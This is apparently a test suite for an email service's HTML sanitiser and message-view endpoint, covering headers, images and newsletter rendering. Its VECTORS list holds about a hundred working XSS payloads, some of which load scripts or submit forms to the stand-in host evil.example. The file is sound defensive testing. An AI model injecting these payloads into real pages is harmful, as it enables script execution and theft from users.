import { env, exports } from "cloudflare:workers";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { sanitizeHtml } from "../../src/ems/messages/html.ts";
import type { MessageResponse } from "../../src/ems/messages/schemas.ts";
import { type Client, connectMailbox, createClient } from "../support/client.ts";
import { breakRoute, eventually, receiveMail } from "../support/nylas.ts";

/** The start of a PNG: nobody decodes it here. */
const bytes = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a);

let client: Client;
let message: MessageResponse;

beforeAll(async () => {
  client = await createClient();
  const account = await connectMailbox(client);
  const image = (filename: string, contentId: string, contentType = "image/png") => ({
    ...{ filename, contentId, contentType },
    content: btoa(String.fromCharCode(...bytes)),
  });
  await receiveMail({
    from: { email: "c@out.example" },
    to: [{ email: account.email_address }],
    subject: "Picture",
    html: '<p>Our logo: <img src="cid:logo@x"></p>',
    attachments: [
      image("logo.png", "logo@x"),
      image("photo.jpg", "photo 1@x", "application/octet-stream"),
      image("drawing.svg", "drawing@x", "image/svg+xml"),
      image("page.html", "page@x", "text/html"),
    ],
  });
  message = await eventually(async () => {
    const { body } = await client.call("GET", "/messages/");
    expect(body.items).toHaveLength(1);
    return body.items[0];
  });
});

const setBody = (html: string | null, text: string | null = null) =>
  env.DB.prepare("UPDATE ems_messages SET body_html = ?, body_text = ?, body_key = NULL WHERE id = ?")
    .bind(html, text, message.id)
    .run();

const open = (query = "") => client.call<string>("GET", `/messages/${message.id}/html${query}`);

/** What stands between <body> and </body> when the message has this HTML. */
async function show(html: string, query = ""): Promise<string> {
  await setBody(html);
  const { status, body } = await open(query);
  expect(status).toBe(200);
  return /<body>([\s\S]*)<\/body><\/html>\n$/.exec(body)![1]!;
}

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

/** The elements as a browser's tokenizer sees them: HTMLRewriter has nothing in common with the sanitiser. */
async function tagsOf(html: string): Promise<Tag[]> {
  const tags: Tag[] = [];
  const rewriter = new HTMLRewriter().on("*", {
    element: (element) => {
      const attributes = Object.fromEntries(Array.from(element.attributes as Iterable<string[]>));
      tags.push({ name: element.tagName.toLowerCase(), attributes });
    },
  });
  await rewriter.transform(new Response(html)).text();
  return tags;
}

const FORBIDDEN_TAGS =
  /^(script|style|i?frame|frameset|object|embed|applet|svg|math|link|meta|base|audio|video|source|track|form|input|button|select|option|textarea|noscript|noembed|noframes|template|xmp|plaintext|listing|title|head|body|html|canvas|marquee|portal|dialog|isindex|keygen|bgsound|layer|image|param|picture|map|area)$|[^a-z0-9]/;
const KNOWN_ATTRIBUTES =
  /^(style|dir|lang|title|align|valign|bgcolor|background|height|width|colspan|rowspan|nowrap|clear|href|rel|color|face|size|noshade|src|alt|border|hspace|vspace|type|value|reversed|start|cellpadding|cellspacing|span)$/;
const FORBIDDEN_CSS =
  /url|expression|@|\\|&|position|behavior|binding|image|javascript|\/\*|src\(|var\(|attr\(/i;

/** Fails if the markup has anything that runs, loads, submits or covers. */
async function expectSafe(html: string, images: "blocked" | "remote" = "blocked"): Promise<void> {
  expect(html).toMatch(/^(?:[^<>]|<\/?[a-z][a-z0-9]*(?: [a-z]+(?:="[^"<>]*")?)*>)*$/);
  for (const { name, attributes } of await tagsOf(html)) {
    expect(name).not.toMatch(FORBIDDEN_TAGS);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).toMatch(KNOWN_ATTRIBUTES);
      if (attribute === "href") expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/i);
      if (attribute === "style") expect(value).not.toMatch(FORBIDDEN_CSS);
      if (attribute === "src" || attribute === "background") {
        expect(value).toMatch(
          images === "remote"
            ? /^(data:image\/(png|jpe?g|gif|webp);base64,|https:\/\/|cid:)/i
            : /^(data:image\/(png|jpe?g|gif|webp);base64,|cid:)/i,
        );
      }
    }
  }
}

describe("refused", () => {
  it.each(["2", "true", "", "1&images=0"])("images=%s is 400", async (images) => {
    const { status, body } = await open(`?images=${images}`);
    expect([status, body]).toEqual([
      400,
      expect.objectContaining({ detail: expect.stringMatching(/images/) }),
    ]);
  });

  it("an absent message is 404, a malformed id 400", async () => {
    expect((await client.call("GET", `/messages/${crypto.randomUUID()}/html`)).status).toBe(404);
    expect((await client.call("GET", "/messages/1/html")).status).toBe(400);
  });

  it("another company's message is 404", async () => {
    const other = await createClient();
    expect((await other.call("GET", `/messages/${message.id}/html`)).status).toBe(404);
  });
});

const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "<script/x>alert(1)</script >",
  "<<script>alert(1)//<</script>",
  "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=x\nonerror\n=\nalert(1)\n>",
  "<img src=`x` onerror=alert(1)>",
  "<IMG SRC=x ONERROR=alert(1)//",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<img src='x:x' onerror='alert(1)' src='https://ok.example/'>",
  '<p title="<!--"><img src=x onerror=alert(1)>--">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#x61;vascript&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https&colon;//ok.example" onclick=alert(1)>x</a>',
  '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
  `<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`,
  '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html;base64,AAAA">',
  "<svg onload=alert(1)></svg><svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a title="</style><img src onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<select><style></select><img src=x onerror=alert(1)></style></select>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!-- never closed <img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><?import namespace='t'><img src=x onerror=alert(1)>",
  "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
  "<style></style/><script>alert(1)</script>",
  "<style>p{}</style><script>alert(1)</script><style>",
  '<p style="background:url(https://evil.example/p.gif)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="background:u\\72l(https://evil.example/)">x</p>',
  '<p style="background:url&lpar;https://evil.example/)">x</p>',
  '<p style="background:&#117;rl(&quot;https://evil.example/&quot;)">x</p>',
  '<p style="background:ur/**/l(https://evil.example/)">x</p>',
  '<p style="background:uurl()rl(https://evil.example/)">x</p>',
  "<p style=\"background:image-set('https://evil.example/' 1x)\">x</p>",
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:exp/**/ression(alert(1))">x</p>',
  '<p style="width:e\\xpression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#a)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">x</p>',
  '<p style="POSITION : FIXED">x</p>',
  '<p style="color:red;po\\73ition:fixed">x</p>',
  "<p style=\"font-family:'x\\';position:fixed;y:'\">x</p>",
  '<p style="content:url(https://evil.example/);list-style:url(https://evil.example/);cursor:url(x)">x</p>',
  '<p style="constructor:x;__proto__:y;color:var(--x);width:attr(src)">x</p>',
  "<p style='x:\"</p><img src=x onerror=alert(1)>\"'>x</p>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="img-src *">',
  '<base href="https://evil.example/"><base target="_self"><a href="/x">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"><param name=x></object><embed src="javascript:alert(1)">',
  '<applet code="x"></applet><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  "<video poster=https://evil.example/x onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)><marquee onstart=alert(1)>",
  '<img srcset="https://evil.example/x 2x" sizes="100vw"><picture><source srcset="https://evil.example/y"></picture>',
  '<img src="//evil.example/p.gif"><img src="\\\\evil.example\\p.gif"><img src="/files/x"><img src="x.gif">',
  '<image src="https://evil.example/x" onerror=alert(1)>',
  '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y" longdesc="javascript:alert(1)">',
  '<table background="https://evil.example/p.gif"><td background="javascript:alert(1)">x</table>',
  '<body background="https://evil.example/p.gif" onload=alert(1) style="background:url(https://evil.example/)">',
  '<html manifest="https://evil.example/x"><head profile="https://evil.example/x">',
  "<map name=x><area href='javascript:alert(1)' shape=default></map><img usemap=#x>",
  '<a href="https://ok.example" ping="https://evil.example/" target="_top" download>x</a>',
  '<div id="x" name="y" class="z" contenteditable tabindex=1 is="x" slot="y">x</div>',
  '<p/onclick=alert(1)>x</p><p onclick\x0b=alert(1)>x</p><p "onclick=alert(1)>x</p><p =onclick=alert(1)>x</p>',
  '<a title="x"onmouseover="alert(1)">x</a><a title=\'"onmouseover="alert(1)\'>x</a>',
  '<a title="a&quot; onmouseover=&quot;alert(1)">x</a><a title="a&#34; onmouseover=&#34;alert(1)">x</a>',
  "<b <script>alert(1)</script>0><i <b onclick=alert(1)",
  '<a href="https://ok.example/<script>alert(1)</script>">x',
  '</body></html><script>alert(1)</script><img src="x"',
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "＜script＞alert(1)＜/script＞ ¼script¾ \u2028<img\u2028src=x\u2028onerror=alert(1)>",
  "\ufeff<img src=x:\udc00 onerror=alert(1)>",
  "<img src=\"cid:x' onerror='alert(1)\"><img src=cid:%22onerror=alert(1)//>",
];

describe("nothing dangerous gets through", () => {
  it.each(VECTORS)("%j", async (vector) => {
    for (const html of [vector, `<table><tr><td>${vector}`, `<p title='${vector}">${vector}`]) {
      await expectSafe(await show(html));
      const withImages = await show(html, "?images=1");
      await expectSafe(withImages, "remote");
      expect(sanitizeHtml(withImages, true)).toBe(withImages);
    }
  });

  it("in whatever order the pieces come, and sanitising twice changes nothing", async () => {
    const tokens = VECTORS.flatMap((vector) => vector.split(/(?<=[>="' ;(])|(?=[<"'&])/));
    const more = [
      "<",
      ">",
      "'",
      '"',
      "=",
      "/",
      "&",
      "`",
      "\0",
      "\n",
      "\x0c",
      "<!--",
      "-->",
      "<style>",
      "</style>",
      "&amp;",
      "&#",
      "&quot;",
      ' style="',
      "url(",
      ";",
      "\\",
      " href=",
      " src=",
      "cid:",
      "%",
      "<td ",
      "<a ",
      "<img ",
      "</",
      "<svg/>",
      "https://x.example/",
    ];
    const markup = fc
      .array(fc.constantFrom(...tokens, ...more), { maxLength: 30 })
      .map((all) => all.join(""));
    await fc.assert(
      fc.asyncProperty(markup, fc.boolean(), async (html, remote) => {
        const once = sanitizeHtml(html, remote);
        await expectSafe(once, remote ? "remote" : "blocked");
        expect(sanitizeHtml(once, remote)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ["10,000 nested tags", `${"<div><table><tr><td>".repeat(2500)}x`],
    ["1 MB of <a<a<a", "<a".repeat(500_000)],
    ["1 MB of blanks in a tag", `<a ${"x ".repeat(500_000)}>`],
    ["1 MB of quotes in a tag", `<a ${"a='b=\"".repeat(150_000)}>`],
    ["1 MB of url(", `<p style="background:${"url(".repeat(250_000)}">`],
    ["1 MB of comments", "<!--".repeat(250_000)],
    ["1 MB of <style", "<style".repeat(160_000)],
  ])(
    "and no time is lost on %s",
    async (_name, html) => {
      await show(html);
    },
    4000,
  );
});

describe("the answer", () => {
  it("is a document that carries its policy itself", async () => {
    await setBody("<p>Salom</p>");
    const { headers, body } = await open();
    expect(headers.get("content-type")).toMatch(/^text\/html; charset=utf-8$/i);
    expect(body).toMatch(/^<!doctype html>\n<html><head><meta charset="utf-8">/);
    expect(body).toContain('<base target="_blank">');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(body)?.[1];
    expect(policy).toBe(
      "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src 'none'; form-action 'none'; base-uri 'none'",
    );
    expect(headers.get("content-security-policy")).toBe(
      `sandbox allow-popups allow-popups-to-escape-sandbox; ${policy}; frame-ancestors 'self' http://localhost:* https://localhost:* http://127.0.0.1:* https://127.0.0.1:*`,
    );
    expect(headers.get("x-frame-options")).toBeNull();
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    expect(headers.get("referrer-policy")).toBe("no-referrer");
    expect(headers.get("cache-control")).toBe("private, no-store");
  });

  it("may be framed by nobody but that document", async () => {
    const { headers } = await client.call("GET", `/messages/${message.id}`);
    expect(headers.get("x-frame-options")).toBe("SAMEORIGIN");
  });

  it("of a mail without HTML is its text as it stands", async () => {
    await setBody(null, "a < b && c > d\n\n  <script>alert(1)</script> &amp;");
    const { body } = await open();
    expect(body).toContain(
      "\na &lt; b &amp;&amp; c &gt; d\n\n  &lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;</pre>",
    );
    expect(body).toContain("white-space:pre-wrap");
  });

  it("of a mail without any body is an empty document", async () => {
    for (const text of [null, ""]) {
      await setBody(text, text);
      expect((await open()).body).toContain("<body></body>");
    }
  });

  it("of the message itself has the HTML unchanged", async () => {
    const html = '<p onclick="x()">Salom<script>1</script></p>';
    await setBody(html);
    expect((await client.call("GET", `/messages/${message.id}`)).body.body_html).toBe(html);
  });

  it("of a body of 3 MB is whole", async () => {
    const own = await createClient();
    const account = await connectMailbox(own);
    const row = '<tr style="background:#fff"><td>yong‘oq</td><td onclick="x()">1 520</td></tr>\n';
    const html = `<table>${row.repeat(40_000)}</table>`;
    await receiveMail({
      from: { email: "c@out.example" },
      to: [{ email: account.email_address }],
      subject: "Big",
      html,
    });
    const id = await eventually(async () => {
      const { body } = await own.call("GET", "/inbox/");
      expect(body.items).toHaveLength(1);
      return body.items[0].message.id;
    });
    const { body } = await own.call<string>("GET", `/messages/${id}/html`);
    expect(body.split("<td>1 520</td>")).toHaveLength(40_001);
  }, 30_000);
});

const NEWSLETTER = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x.dtd">
<html><head><title>Hidden</title><style>p { color: blue }</style></head>
<body bgcolor="#EEEEEE"><!--[if mso]><table><tr><td width="600"><![endif]-->
<center><TABLE WIDTH="600" cellpadding=0 cellspacing='0' border="0" bgcolor="#ffffff" align=center>
<tr><td style="Font-Family:'Segoe UI',&quot;Noto Sans&quot;,Arial;
  padding:12px 0;color:#333!important;background:#FFF url(https://news.example/bg.png) no-repeat" valign="top" colspan=2>
<h1 style="margin:0;line-height:1.2">Yangiliklar &amp; aksiyalar &mdash; 50&nbsp;%</h1>
<img src="https://news.example/top.jpg?a=1&amp;b=2" alt="Yozgi chegirma" width="600" height="200">
<img src="http://track.example/o.gif" width=1 height=1 alt="">
<a href="https://shop.example/?a=1&amp;b=2" target="_self" style="color:rgb(1, 2, 3)">Xarid</a>
<a href="mailto:info@shop.example">yozing</a> <a href="tel:+998901234567">+998 90</a>
<font color="red" face="Arial" size="2">5 < 6 and 7 > 3</font></td></tr></TABLE></center>
<!--[if mso]></td></tr></table><![endif]--></body></html>`;

describe("a newsletter", () => {
  it("keeps its tables, colours, fonts, words and links", async () => {
    const html = await show(NEWSLETTER);
    expect(html).not.toMatch(/Hidden|color: blue|mso/);
    for (const part of [
      '<div style="background-color:#eeeeee;">',
      '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center">',
      "font-family:'segoe ui','noto sans',arial; padding:12px 0; color:#333!important; background:#fff  no-repeat;",
      'valign="top" colspan="2"',
      "Yangiliklar &amp; aksiyalar &mdash; 50&nbsp;%</h1>",
      'href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer" style="color:rgb(1, 2, 3);">Xarid</a>',
      'href="mailto:info@shop.example"',
      'href="tel:+998901234567"',
      '<font color="red" face="Arial" size="2">5 &lt; 6 and 7 &gt; 3</font>',
    ]) {
      expect(html).toContain(part);
    }
  });

  it("loads nothing from elsewhere, tracking pixels included", async () => {
    await setBody(NEWSLETTER);
    const { body, headers } = await open("?images=0");
    expect(body).not.toMatch(/news\.example|track\.example/);
    expect(body).toMatch(
      /<img src="data:image\/gif;base64,[^"]*" alt="Yozgi chegirma" width="600" height="200">/,
    );
    expect(headers.get("content-security-policy")).not.toContain("https: ");
  });

  it("loads images, over TLS, when asked to", async () => {
    await setBody(`${NEWSLETTER}<table background="https://news.example/t.png"><td>x</table>`);
    const { body, headers } = await open("?images=1");
    expect(body).toContain('<img src="https://news.example/top.jpg?a=1&amp;b=2" alt="Yozgi chegirma"');
    expect(body).toContain('<img src="https://track.example/o.gif"');
    expect(body).toContain('<table background="https://news.example/t.png">');
    expect(headers.get("content-security-policy")).toContain("img-src data: https:;");
  });
});

describe("an image that was sent along", () => {
  const sources = (html: string) =>
    Array.from(html.matchAll(/<img src="([^"]*)"/g), ([, src = ""]) => src.replaceAll("&amp;", "&"));
  const blank = /^data:image\/gif/;

  it.each([
    ["as it is named", "cid:logo@x", "image/png"],
    ["in capitals", "CID:logo@x", "image/png"],
    ["percent-encoded", "cid:logo%40x", "image/png"],
    ["with references", "cid:logo&#64;x", "image/png"],
    ["with a blank, its type told by its name", "cid:photo%201@x", "image/jpeg"],
  ])("is loaded by signed URL: %s", async (_name, cid, type) => {
    await setBody(`<p><img width="9" src="${cid}" alt="logo"></p>`);
    const { body, headers } = await open();
    const [src = ""] = sources(body);
    expect(src).toMatch(/^https:\/\/xabar\.test\/files\/attachments\/.*X-Amz-Signature=/);
    expect(headers.get("content-security-policy")).toContain("img-src https://xabar.test data:;");
    const image = await exports.default.fetch(new Request(src));
    expect([image.status, image.headers.get("content-type")]).toEqual([200, type]);
    expect(new Uint8Array(await image.arrayBuffer())).toEqual(bytes);
  });

  it.each(["cid:unknown@x", "cid:", "cid:%", "cid:drawing@x", "cid:page@x", "cid:LOGO@Y"])(
    "is blank when %s names no picture",
    async (cid) => {
      const [src] = sources(await show(`<img src="${cid}">`));
      expect(src).toMatch(blank);
    },
  );

  it("of another message is blank, also within the company", async () => {
    const id = await env.DB.prepare("SELECT id FROM ems_attachments WHERE content_id = 'logo@x'").first("id");
    await env.DB.prepare("UPDATE ems_attachments SET message_id = 'other' WHERE id = ?").bind(id).run();
    const [src] = sources(await show('<img src="cid:logo@x">'));
    await env.DB.prepare("UPDATE ems_attachments SET message_id = ? WHERE id = ?").bind(message.id, id).run();
    expect(src).toMatch(blank);
  });

  it("that the provider fails to give is blank, and the rest of the page is there", async () => {
    await env.DB.prepare("UPDATE ems_attachments SET stored_at = NULL").run();
    await breakRoute("/download", "502html");
    const html = '<p>Text</p><img src="cid:logo@x">';
    const broken = await show(html);
    expect(broken).toContain("<p>Text</p>");
    expect(sources(broken)[0]).toMatch(blank);
    expect(sources(await show(html))[0]).toMatch(/^https:/);
  });

  it("is brought to R2 if it is not there yet", async () => {
    await env.DB.prepare("UPDATE ems_attachments SET stored_at = NULL").run();
    await env.ATTACHMENTS.delete((await env.ATTACHMENTS.list()).objects.map(({ key }) => key));
    const [src = ""] = sources(await show('<img src="cid:logo@x">'));
    const image = await exports.default.fetch(new Request(src));
    expect(image.status).toBe(200);
    await image.body?.cancel();
  });

  it("in the words of a mail is only words", async () => {
    const html = await show('&lt;img src="cid:logo@x"&gt; <p title=\'<img src="cid:logo@x">\'>x</p>');
    expect(html).not.toContain("/files/");
  });
});
